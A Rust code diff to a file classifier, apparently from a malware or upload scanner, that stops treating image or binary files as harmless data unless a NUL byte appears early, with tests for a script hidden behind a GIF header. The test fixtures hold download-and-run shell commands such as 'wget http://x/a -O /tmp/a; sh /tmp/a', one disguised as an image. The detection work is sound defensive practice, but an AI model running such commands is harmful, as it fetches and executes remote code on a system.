@@ -32,7 +32,11 @@ impl Scope {
     pub(crate) fn of(path: &str, kind: Kind, bytes: &[u8]) -> Scope {
         if memchr::memmem::find(bytes, b"<?").is_some() {
             Scope::Php
-        } else if matches!(kind, Kind::Image | Kind::Binary) || is_json_document(path, bytes) {
+        } else if is_json_document(path, bytes)
+            // An image or binary data with a NUL byte early; a "GIF89a" header on
+            // top of a shell script is still a script.
+            || (matches!(kind, Kind::Image | Kind::Binary) && heuristics::has_nul_in_head(bytes))
+        {
             Scope::Any
         } else {
             Scope::Script
@@ -344,7 +348,18 @@ mod tests {
         assert_eq!(of("/w/list.json", b"[1, 2]"), Scope::Any);
         // Named .json but not shaped like it: a script in disguise.
         assert_eq!(of("/tmp/c.json", b"wget http://x/a; sh a"), Scope::Script);
-        assert_eq!(of("/w/a.png", b"\x89PNG\r\n\x1a\nIHDR"), Scope::Any);
+        assert_eq!(
+            of("/w/a.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"),
+            Scope::Any
+        );
+        // An image header glued on a script is a script.
+        assert_eq!(
+            of(
+                "/w/u/a.gif",
+                b"GIF89a;\nwget http://x/a -O /tmp/a; sh /tmp/a"
+            ),
+            Scope::Script
+        );
         assert_eq!(of("/w/a.mo", b"\xde\x12\x04\x95\x00\x00"), Scope::Any);
     }
 
